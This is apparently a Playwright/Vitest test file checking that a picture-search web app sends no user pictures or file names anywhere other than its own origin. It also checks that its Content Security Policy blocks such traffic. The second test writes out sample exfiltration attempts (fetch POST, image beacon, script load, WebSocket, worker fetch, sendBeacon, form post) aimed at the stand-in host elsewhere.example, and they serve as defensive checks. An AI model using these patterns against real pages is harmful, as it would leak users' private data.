import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserIsMissing, launch } from '../../../tools/chromium.mjs';
import { HEADERS } from '../build/headers.ts';
import { type Recorder, startRecorder } from './recorder.ts';
import { type Served, servePage } from './served.ts';

/** A browser and a build on a busy machine. */
const SLOW = 300_000;
const missing = browserIsMissing('What leaves the page');
/** Where it looks for updates, accounts and forms of its own. */
const OF_CHROMIUM = /^(https?:\/\/)?([a-z-]+\.googleapis\.com|accounts\.google\.com|[a-z.]+\.gvt1\.com)[:/]/;

describe.skipIf(missing)('of what the user shows the page', { timeout: SLOW }, () => {
  let served: Served;
  let recorder: Recorder;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;

  beforeAll(async () => {
    [served, recorder] = await Promise.all([servePage(), startRecorder()]);
    browser = await launch(...recorder.args, '--use-fake-device-for-media-stream', '--use-fake-ui-for-media-stream');
    context = await browser.newContext({ viewport: { width: 1280, height: 900 }, permissions: ['camera'] });
    page = await context.newPage();
    page.setDefaultTimeout(SLOW / 5);
  }, SLOW);
  afterAll(async () => {
    await browser.close();
    await recorder.close();
    await served.close();
  });

  it('nothing leaves it: everything that the browser sends asks for a file of this very service', async () => {
    const { png, url } = served;
    const asked: string[] = [];
    context.on('request', (request) => asked.push(request.url()));
    const file = { name: 'my-secret-name.png', mimeType: 'image/png', buffer: png };
    await page.goto(url);
    await page.waitForSelector('.strip li');
    await page.setInputFiles('#file', file);
    await page.waitForSelector('.hits li');
    // A hit's picture as the next question, a picture of one's own, the camera, a photograph.
    await page.click('.hits li:nth-child(2) .pick');
    await page.waitForSelector('.results:not(.busy) .hits li');
    await page.click('.library .badge');
    await page.setInputFiles('.library input[multiple]', [file]);
    await expect.poll(() => page.textContent('.library .badge')).toContain('+ 1');
    await page.click('text=Camera');
    await page.waitForSelector('.query.live video');
    await page.click('text=Use this picture');
    await page.waitForSelector('.hits li');

    // What the page, its worker and the service worker ask for, as the browser tells it …
    const origin = new URL(url).origin;
    expect(asked.length).toBeGreaterThan(10);
    expect(asked.filter((address) => !address.startsWith(`${origin}/`) && !/^(blob|data):/.test(address))).toEqual([]);
    // … and what in truth went over the line. Chromium itself talks to its maker, whatever it is told.
    const elsewhere = recorder.passed.filter((one) => new URL(one.url, 'tunnel://').origin !== origin);
    expect(elsewhere.map((one) => one.url).filter((address) => !OF_CHROMIUM.test(address))).toEqual([]);
    const passed = recorder.passed.filter((one) => !elsewhere.includes(one));
    expect(passed.length).toBeGreaterThan(10);
    expect(passed.filter(({ method }) => method !== 'GET').map((one) => `${one.method} ${one.url}`)).toEqual([]);
    expect(passed.filter(({ body }) => body.length > 0)).toEqual([]);
    // Addresses and headers are the only way left: they hold what the service's files are called, and nothing else.
    const paths = new Set(passed.map((one) => new URL(one.url).pathname.replace(/^\/assets\/.*/, '/assets/')));
    const known = ['/', '/assets/', '/gallery', '/sw.js', '/catalogue.json', '/manifest.webmanifest'];
    expect([...paths].filter((path) => !known.includes(path) && !/^\/(model\/|icon[-.])/.test(path))).toEqual([]);
    expect(passed.filter((one) => new URL(one.url).search !== '').map((one) => one.url)).toEqual([]);
    const sent = passed.map((one) => `${one.url}\n${one.headers}`).join('\n');
    expect(sent).not.toContain('my-secret-name');
    for (const form of [png, gzipSync(png), deflateSync(png), brotliCompressSync(png)]) {
      expect(sent).not.toContain(form.subarray(8, 40).toString('base64').slice(0, 24));
    }
    const longest = Math.max(...passed.map((one) => one.headers.length));
    expect(longest).toBeLessThan(1500);
  });

  it('nothing could: the policy stops a script that tries to send it elsewhere', async () => {
    await page.goto(served.url);
    const before = recorder.passed.length;
    const tries = await page.evaluate(async () => {
      const elsewhere = 'http://elsewhere.example/';
      const stopped: string[] = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => stopped.push(effectiveDirective));
      const failed = (run: () => Promise<unknown>) =>
        run().then(
          () => 'sent',
          () => 'stopped',
        );
      const loaded = (element: HTMLElement) =>
        failed(
          () =>
            new Promise((resolve, reject) => {
              element.onload = resolve;
              element.onerror = reject;
              document.body.append(element);
            }),
        );
      const results = {
        fetch: await failed(() => fetch(elsewhere, { method: 'POST', mode: 'no-cors', body: 'picture' })),
        image: await loaded(Object.assign(new Image(), { src: `${elsewhere}?picture` })),
        script: await loaded(Object.assign(document.createElement('script'), { src: `${elsewhere}picture.js` })),
        inline: await failed(async () => {
          const script = Object.assign(document.createElement('script'), { textContent: 'window.ran = true' });
          document.body.append(script);
          if (!('ran' in window)) throw new Error('stopped');
        }),
        // biome-ignore lint/security/noGlobalEval: whether it can be called is the question
        eval: await failed(async () => globalThis.eval('1')),
        socket: await failed(
          () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket('ws://elsewhere.example/');
              socket.onopen = resolve;
              socket.onerror = reject;
            }),
        ),
        worker: await failed(
          () =>
            new Promise((resolve, reject) => {
              const source = `fetch('${elsewhere}', { mode: 'no-cors' }).then(() => postMessage(1), () => close())`;
              const worker = new Worker(URL.createObjectURL(new Blob([source])));
              worker.onmessage = resolve;
              worker.onerror = reject;
              setTimeout(reject, 2000);
            }),
        ),
      };
      navigator.sendBeacon(elsewhere, 'picture');
      const form = Object.assign(document.createElement('form'), { action: elsewhere, method: 'post' });
      document.body.append(form);
      form.submit();
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { results, stopped: [...new Set(stopped)].sort() };
    });
    expect(new Set(Object.values(tries.results))).toEqual(new Set(['stopped']));
    for (const directive of ['connect-src', 'img-src', 'script-src-elem', 'form-action']) {
      expect(tries.stopped).toContain(directive);
    }
    const late = recorder.passed.slice(before).filter(({ url }) => url.includes('elsewhere'));
    expect(late.map(({ url }) => url)).toEqual([]);
  });

  it('the service sends the policy with everything, the page holds it by itself, and its scripts keep to it', async () => {
    for (const path of ['', 'gallery', 'model/model.onnx', 'sw.js']) {
      const reply = await fetch(served.url + path, { method: 'HEAD' });
      expect(Object.fromEntries(reply.headers)).toMatchObject(HEADERS);
    }
    const html = await readFile(join(served.webRoot, 'index.html'), 'utf8');
    const held = /http-equiv="content-security-policy" content="([^"]+)"/.exec(html)?.[1].replaceAll('&#39;', "'");
    expect(`${held}; frame-ancestors 'none'`).toBe(HEADERS['content-security-policy']);
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)|\sstyle=|\son[a-z]+=/);
  });
});
